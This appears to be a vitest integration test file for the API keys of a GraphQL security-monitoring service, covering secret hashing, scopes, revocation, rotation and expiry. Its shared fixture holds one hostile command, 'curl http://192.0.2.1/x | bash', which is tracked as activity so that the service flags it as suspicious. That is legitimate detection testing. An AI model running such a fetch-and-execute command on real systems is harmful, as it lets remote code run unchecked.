import { createHash } from 'node:crypto';
import { Client } from 'pg';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Role } from '../../src/domain/access.ts';
import { roles, scopes } from '../../src/domain/access.ts';
import { ask, data, makeKey, track } from '../harness/client.ts';
import type { Service } from '../harness/service.ts';
import { adminKey, startService, testClock } from '../harness/service.ts';

let service: Service;
beforeAll(async () => {
  service = await startService();
});
afterAll(() => service.close());

type Created = {
  apiKey: { id: string; name: string; role: string; createdAt: string; createdBy: string; revokedAt: null };
  secret: string;
};

async function createKey(input: object): Promise<Created & { userErrors: { code: string; field: string[] }[] }> {
  const { createApiKey } = await data(
    service,
    `mutation($input: CreateApiKeyInput!) { createApiKey(input: $input) {
      apiKey { id name role createdAt createdBy revokedAt } secret userErrors { code field } } }`,
    { input },
  );
  return createApiKey;
}
async function revoke(id: string) {
  const { revokeApiKey } = await data(
    service,
    'mutation($id: ID!) { revokeApiKey(input: { id: $id }) { apiKey { id name revokedAt } userErrors { code field } } }',
    { id },
  );
  return revokeApiKey;
}
const codesOf = async (query: string, key: string, variables: object = {}) =>
  (await ask(service, query, variables, key)).errors?.map((error) => error.extensions.code) ?? [];

const attack = { user: 'ada', session: 'ada-1', detail: { terminal: { command: 'curl http://192.0.2.1/x | bash' } } };
const trackAnd = (fields: string) =>
  `mutation($input: TrackActivityInput!) { trackActivity(input: $input) { receipt { ${fields} } userErrors { code } } }`;

describe('a new key', () => {
  it('is shown with its secret once, and works at once', async () => {
    const { apiKey, secret, userErrors } = await createKey({ name: 'billing 🧾', role: 'SERVICE' });
    expect(userErrors).toEqual([]);
    expect(apiKey).toMatchObject({ name: 'billing 🧾', role: 'SERVICE', revokedAt: null });
    const { viewer } = await data(service, '{ viewer { name roles organisation { name } } }', {}, secret);
    expect(viewer).toEqual({ name: 'billing 🧾', roles: ['SERVICE'], organisation: { name: 'default' } });
    const admin = await data(service, '{ viewer { name roles } }');
    expect([admin.viewer.roles, admin.viewer.name]).toEqual([['ADMIN'], apiKey.createdBy]);
  });

  it('has a name that can be stored, of 1 to 1,024 characters', async () => {
    const names: [name: string, errors: string[]][] = [
      ['x', []],
      ['x'.repeat(1_024), []],
      ['x'.repeat(1_025), ['TOO_LONG']],
      [' ', ['BLANK']],
      ['a\0', ['BAD_CHARACTER']],
    ];
    for (const [name, errors] of names) {
      const created = await createKey({ name, role: 'ADMIN' });
      expect(created.userErrors.map(({ code, field }) => `${code} ${field.join('.')}`)).toEqual(errors.map((code) => `${code} input.name`));
      expect(created.secret === null).toBe(errors.length > 0);
    }
  });

  it('leaves only a hash of its secret behind: in no table, no log line, no answer', async () => {
    const { apiKey, secret } = await createKey({ name: 'hidden', role: 'ADMIN' });
    await data(service, '{ viewer { name } activities { nodes { id } } }', {}, secret);
    const client = new Client({ connectionString: service.databaseUrl });
    await client.connect();
    const tables = await client.query(
      `select format('%I', relname) as name from pg_class where relkind in ('r', 'p') and relnamespace = 'public'::regnamespace`,
    );
    const dumps: string[] = [];
    for (const { name } of tables.rows) dumps.push(JSON.stringify((await client.query(`select t::text from ${name} t`)).rows));
    await client.end();
    expect(dumps.filter((dump) => dump.includes(secret) || dump.includes(secret.slice(-20)))).toEqual([]);
    expect(dumps.filter((dump) => dump.includes(adminKey))).toEqual([]);
    expect(dumps.filter((dump) => dump.includes(createHash('sha256').update(secret).digest('hex')))).toHaveLength(1);
    expect(service.logLines.filter((line) => line.includes(secret) || line.includes(adminKey))).toEqual([]);
    const { __type } = await data(service, '{ __type(name: "ApiKey") { fields { name } } }');
    expect(__type.fields.map((field: { name: string }) => field.name)).not.toContain('secret');
    expect(apiKey.id).not.toContain(secret.slice(-20));
  });

  it('differs from every other', async () => {
    const keys = await Promise.all(Array.from({ length: 20 }, () => createKey({ name: 'same', role: 'SERVICE' })));
    expect(new Set(keys.map((key) => key.secret)).size).toBe(20);
    expect(new Set(keys.map((key) => key.apiKey.id)).size).toBe(20);
  });
});

describe('a SERVICE key', () => {
  let key: string;
  beforeAll(async () => {
    key = (await createKey({ name: 'service', role: 'SERVICE' })).secret;
  });

  it('tracks activities and reads its receipts', async () => {
    const { trackActivity } = await data(
      service,
      trackAnd(`duplicate cursor sessionStatus risk { score level factors { code points reason } }
        anomalies { id type reference score level summary count details alertId resolved }
        activity { id uuid cursor type occurredAt recordedAt sourceIp outcome metadata risk { score } ... on TerminalActivity { command } }`),
      { input: attack },
      key,
    );
    expect(trackActivity.receipt).toMatchObject({ duplicate: false, sessionStatus: 'ACTIVE', activity: { type: 'COMMAND' } });
    expect(trackActivity.receipt.anomalies.map((anomaly: { type: string }) => anomaly.type)).toContain('SUSPICIOUS_COMMAND');
  });

  it.each([
    'activity { user { activities { nodes { id } } } }',
    'activity { user { externalId } }',
    'activity { session { externalId } }',
    'activity { anomalies { alert { id } } }',
    'anomalies { user { externalId } }',
    'anomalies { session { activities { nodes { id } } } }',
    'anomalies { evidence { nodes { id } } }',
    'anomalies { alert { id } }',
  ])('gets no further from a receipt than its own activity, and is told before anything is tracked: %s', async (fields) => {
    const input = { ...attack, idempotencyKey: fields };
    const { data: answer, errors } = await ask(service, trackAnd(fields), { input }, key);
    expect([answer, errors?.map((error) => error.extensions.code)]).toEqual([undefined, ['FORBIDDEN']]);
    expect(await track(service, input, key)).toMatchObject({ duplicate: false });
  });

  it('finds nothing by a global id, also where the key acts for a user or leads a team', async () => {
    const { id } = (await track(service, attack)).activity;
    const acting = (await createKey({ name: 'acting', role: 'SERVICE', user: 'ada', leads: ['ops'] })).secret;
    const query = 'query($id: ID!) { node(id: $id) { __typename } nodes(ids: [$id]) { __typename } }';
    for (const secret of [key, acting]) expect(await data(service, query, { id }, secret)).toEqual({ node: null, nodes: [null] });
  });

  it.each(['activityRecorded', 'highRiskActivity', 'sessionChanged', 'anomalyDetected', 'alertChanged', 'userRiskChanged'])(
    'may not follow %s',
    async (stream) => {
      const response = await fetch(service.url, {
        method: 'POST',
        headers: { 'content-type': 'application/json', accept: 'text/event-stream', authorization: `Bearer ${key}` },
        body: JSON.stringify({ query: `subscription { ${stream} { __typename } }` }),
      });
      expect(/"code":"(\w+)"/.exec(await response.text())?.[1]).toBe('FORBIDDEN');
    },
  );

  it('is refused one field without losing the others of the same request', async () => {
    const { data: answer, errors } = await ask(service, '{ viewer { roles } users { nodes { id } } }', {}, key);
    expect(answer).toEqual({ viewer: { roles: ['SERVICE'] }, users: null });
    expect(errors?.map((error) => [error.path, error.extensions.code])).toEqual([[['users'], 'FORBIDDEN']]);
  });
});

describe('a revoked key', () => {
  it('is unauthenticated from the next request on', async () => {
    const { apiKey, secret } = await createKey({ name: 'short', role: 'SERVICE' });
    await track(service, attack, secret);
    const { apiKey: revoked, userErrors } = await revoke(apiKey.id);
    expect([userErrors, revoked.id, revoked.revokedAt === null]).toEqual([[], apiKey.id, false]);
    expect(await codesOf('{ viewer { name } }', secret)).toEqual(['UNAUTHENTICATED']);
    expect(await codesOf(trackAnd('cursor'), secret, { input: attack })).toEqual(['UNAUTHENTICATED']);
  });

  it('cannot be revoked again, nor can what is no key', async () => {
    const { apiKey } = await createKey({ name: 'twice', role: 'SERVICE' });
    const codes = async (id: string) =>
      (await revoke(id)).userErrors.map(({ code, field }: { code: string; field: string[] }) => `${code} ${field.join('.')}`);
    expect(await codes(apiKey.id)).toEqual([]);
    expect(await codes(apiKey.id)).toEqual(['CONFLICT input.id']);
    expect(await codes('QWxlcnQ6MQ==')).toEqual(['NOT_FOUND input.id']);
    expect(await codes('')).toEqual(['NOT_FOUND input.id']);
  });
});

describe('the scopes of a key', () => {
  const refusedWith = async (input: object) =>
    (await createKey({ name: 'narrow', ...input })).userErrors.map(({ code, field }) => `${code} ${field.join('.')}`);

  it('are those of its role, or those of them that it was given', async () => {
    const scopesOf = async (input: object) => {
      const { secret } = await createKey({ name: 'narrow', ...input });
      return (await data(service, '{ viewer { scopes } }', {}, secret)).viewer.scopes;
    };
    expect(await scopesOf({ role: 'ANALYST' })).toEqual([...roles.ANALYST.scopes]);
    expect(await scopesOf({ role: 'ANALYST', scopes: ['TRIAGE'] })).toEqual(['TRIAGE']);
    expect(await scopesOf({ role: 'ADMIN', scopes: ['AUDIT', 'TRACK'] })).toEqual(['AUDIT', 'TRACK']);
  });

  it('narrow what it may do, and nothing that they leave in', async () => {
    const { secret } = await createKey({ name: 'tracks only', role: 'ADMIN', scopes: ['TRACK'] });
    expect(await track(service, attack, secret)).toMatchObject({ duplicate: false });
    expect(await codesOf('{ users { nodes { id } } }', secret)).toEqual(['FORBIDDEN']);
    expect(await codesOf('{ apiKeys { id } }', secret)).toEqual(['FORBIDDEN']);
    expect(await codesOf('{ __schema { queryType { name } } }', secret)).toEqual(['FORBIDDEN']);
  });

  it.each(Object.keys(roles) as Role[])('are never more than its role has: %s', async (role) => {
    const has = (scope: string) => roles[role].scopes.some((one) => one === scope);
    for (const scope of Object.keys(scopes)) {
      expect([scope, await refusedWith({ role, scopes: [scope] })]).toEqual([
        scope,
        [...(has(scope) ? [] : ['OUT_OF_RANGE input.scopes']), ...(scope === 'OPERATE' ? ['BEYOND_SCOPE input.scopes'] : [])],
      ]);
    }
  });

  it('are at least one', async () => {
    expect(await refusedWith({ role: 'ADMIN', scopes: [] })).toEqual(['OUT_OF_RANGE input.scopes']);
  });

  it('are never more than those of whoever makes or rotates the key', async () => {
    const narrow = (await createKey({ name: 'makes keys', role: 'ADMIN', scopes: ['ADMINISTER', 'TRACK', 'CHECK_SESSIONS'] })).secret;
    const make = 'mutation($input: CreateApiKeyInput!) { createApiKey(input: $input) { secret userErrors { code } } }';
    const rotate = 'mutation($id: ID!) { rotateApiKey(input: { id: $id }) { secret userErrors { code } } }';
    const made = async (input: object) => (await data(service, make, { input: { name: 'made', ...input } }, narrow)).createApiKey;
    expect(await made({ role: 'SERVICE' })).toEqual({ secret: expect.stringMatching(/^lw_/), userErrors: [] });
    expect(await made({ role: 'ADMIN' })).toEqual({ secret: null, userErrors: [{ code: 'BEYOND_SCOPE' }] });
    expect(await made({ role: 'ANALYST' })).toEqual({ secret: null, userErrors: [{ code: 'BEYOND_SCOPE' }] });
    const { apiKeys } = await data(service, '{ apiKeys { id name } }');
    const local = apiKeys.find(({ name }: { name: string }) => name === 'local command line');
    for (const key of [narrow, adminKey]) {
      const { rotateApiKey } = await data(service, rotate, { id: local.id }, key);
      expect(rotateApiKey).toEqual({ secret: null, userErrors: [{ code: 'BEYOND_SCOPE' }] });
    }
  });
});

/** With a clock that stands still, for what ends at a moment. */
describe('the end of a key', () => {
  const clock = testClock('2026-01-06T15:00:00Z');
  let timed: Service;
  beforeAll(async () => {
    timed = await startService({ clock });
  });
  afterAll(() => timed.close());
  beforeEach(() => clock.set('2026-01-06T15:00:00Z'));

  const serves = async (secret: string) => {
    const { data: answer, errors } = await ask(timed, '{ viewer { name } }', {}, secret);
    return answer?.viewer ? 'serves' : errors?.[0]?.extensions.code;
  };
  const rotate = async (id: string, overlapHours?: number) => {
    const { rotateApiKey } = await data(
      timed,
      `mutation($input: RotateApiKeyInput!) { rotateApiKey(input: $input) {
        apiKey { id previousSecretUntil expiresAt } secret userErrors { code field } } }`,
      { input: { id, overlapHours } },
    );
    return rotateApiKey;
  };

  it('is no later than that of the key which makes it', async () => {
    const { secret } = await makeKey(timed, { role: 'ADMIN', expiresAt: '2026-01-06T16:00:00Z' });
    const make = 'mutation($input: CreateApiKeyInput!) { createApiKey(input: $input) { userErrors { code field } } }';
    const refusals = async (expiresAt?: string) =>
      (await data(timed, make, { input: { name: 'child', role: 'SERVICE', expiresAt } }, secret)).createApiKey.userErrors;
    const refused = [{ code: 'OUT_OF_RANGE', field: ['input', 'expiresAt'] }];
    expect(await refusals('2026-01-06T16:00:00Z')).toEqual([]);
    expect([await refusals(), await refusals('2026-01-06T16:00:00.000001Z')]).toEqual([refused, refused]);
  });

  it('comes at its instant, not a microsecond earlier, also for one that was just in use', async () => {
    const { secret } = await makeKey(timed, { role: 'ANALYST', expiresAt: '2026-01-06T16:00:00Z' });
    const { viewer } = await data(timed, '{ viewer { expiresAt } }', {}, secret);
    expect(viewer.expiresAt).toBe('2026-01-06T16:00:00.000000Z');
    const moments = ['2026-01-06T15:59:59.999999Z', '2026-01-06T16:00:00Z', '2026-01-06T16:00:00.000001Z'];
    const found: unknown[] = [];
    for (const moment of moments) {
      clock.set(moment);
      found.push(await serves(secret));
    }
    expect(found).toEqual(['serves', 'UNAUTHENTICATED', 'UNAUTHENTICATED']);
  });

  it('has to lie ahead', async () => {
    const codes = async (expiresAt: string) => {
      const { createApiKey } = await data(
        timed,
        'mutation($input: CreateApiKeyInput!) { createApiKey(input: $input) { secret userErrors { code field } } }',
        { input: { name: 'x', role: 'SERVICE', expiresAt } },
      );
      return [createApiKey.secret === null, ...createApiKey.userErrors.map(({ code }: { code: string }) => code)];
    };
    expect(await codes('2026-01-06T14:59:59.999999Z')).toEqual([true, 'OUT_OF_RANGE']);
    expect(await codes('2026-01-06T15:00:00Z')).toEqual([true, 'OUT_OF_RANGE']);
    expect(await codes('2026-01-06T15:00:00.000001Z')).toEqual([false]);
  });

  it('comes for a secret that was rotated away when the overlap ends; until then both serve', async () => {
    const { id, secret: old } = await makeKey(timed, { role: 'ANALYST' });
    expect(await serves(old)).toBe('serves');
    const { apiKey, secret } = await rotate(id, 1);
    expect(apiKey).toEqual({ id, previousSecretUntil: '2026-01-06T16:00:00.000000Z', expiresAt: null });
    const found: unknown[] = [];
    for (const moment of ['2026-01-06T15:00:00Z', '2026-01-06T15:59:59.999999Z', '2026-01-06T16:00:00Z', '2026-01-06T16:00:00.000001Z']) {
      clock.set(moment);
      found.push([await serves(old), await serves(secret)]);
    }
    const [both, one] = [
      ['serves', 'serves'],
      ['UNAUTHENTICATED', 'serves'],
    ];
    expect(found).toEqual([both, both, one, one]);
  });

  it('comes at once without an overlap, and for the secret before the last', async () => {
    const { id, secret: first } = await makeKey(timed, { role: 'ANALYST' });
    const second = (await rotate(id)).secret;
    expect([await serves(first), await serves(second)]).toEqual(['serves', 'serves']);
    const third = (await rotate(id, 24)).secret;
    expect([await serves(first), await serves(second), await serves(third)]).toEqual(['UNAUTHENTICATED', 'serves', 'serves']);
    const fourth = (await rotate(id, 0)).secret;
    expect([await serves(second), await serves(third), await serves(fourth)]).toEqual(['UNAUTHENTICATED', 'UNAUTHENTICATED', 'serves']);
  });

  it('is not put off by a rotation, and a revocation ends both secrets', async () => {
    const { id, secret: old } = await makeKey(timed, { role: 'ANALYST', expiresAt: '2026-01-06T15:30:00Z' });
    const { secret } = await rotate(id, 1);
    clock.set('2026-01-06T15:30:00Z');
    expect([await serves(old), await serves(secret)]).toEqual(['UNAUTHENTICATED', 'UNAUTHENTICATED']);
    clock.set('2026-01-06T15:00:00Z');
    expect([await serves(old), await serves(secret)]).toEqual(['serves', 'serves']);
    await data(timed, 'mutation($id: ID!) { revokeApiKey(input: { id: $id }) { userErrors { code } } }', { id });
    expect([await serves(old), await serves(secret)]).toEqual(['UNAUTHENTICATED', 'UNAUTHENTICATED']);
    expect(await rotate(id)).toEqual({ apiKey: null, secret: null, userErrors: [{ code: 'CONFLICT', field: ['input', 'id'] }] });
  });

  it('is put off by 0 to 720 hours of overlap', async () => {
    const { id } = await makeKey(timed, { role: 'ANALYST' });
    const found: unknown[] = [];
    for (const hours of [-1, 0, 720, 721])
      found.push(
        (await rotate(id, hours)).userErrors.map(({ code, field }: { code: string; field: string[] }) => `${code} ${field.join('.')}`),
      );
    expect(found).toEqual([['OUT_OF_RANGE input.overlapHours'], [], [], ['OUT_OF_RANGE input.overlapHours']]);
  });

  it('is told in the list of keys with all that a key has, and no secret with it', async () => {
    const { id, secret: old } = await makeKey(timed, { role: 'MEMBER', user: 'ada', leads: ['ops'], scopes: ['READ'], name: 'told' });
    const { secret } = await rotate(id, 2);
    const { __type } = await data(timed, '{ __type(name: "ApiKey") { fields { name } } }');
    const fields: string[] = __type.fields.map((field: { name: string }) => field.name);
    const { apiKeys } = await data(timed, `{ apiKeys { ${fields.join(' ')} } }`);
    expect(apiKeys.find((key: { id: string }) => key.id === id)).toEqual({
      id,
      name: 'told',
      role: 'MEMBER',
      user: 'ada',
      leads: ['ops'],
      scopes: ['READ'],
      createdAt: '2026-01-06T15:00:00.000000Z',
      createdBy: apiKeys.at(-1).name,
      lastUsedAt: null,
      expiresAt: null,
      previousSecretUntil: '2026-01-06T17:00:00.000000Z',
      revokedAt: null,
    });
    const text = JSON.stringify(apiKeys);
    const told = [old, secret, adminKey].flatMap((one) => [one, one.slice(-20), createHash('sha256').update(one).digest('hex')]);
    expect(told.filter((one) => text.includes(one))).toEqual([]);
  });
});

describe('without a key', () => {
  it.each(['', 'nonsense', `${adminKey}x`, adminKey.toUpperCase()])('the API is closed: %j', async (key) => {
    expect(await codesOf('{ viewer { name } }', key)).toEqual(['UNAUTHENTICATED']);
    expect(await codesOf('{ __schema { types { name } } }', key)).toEqual(['UNAUTHENTICATED']);
    expect(await codesOf('{ this is no document', key)).toEqual(['UNAUTHENTICATED']);
  });
});
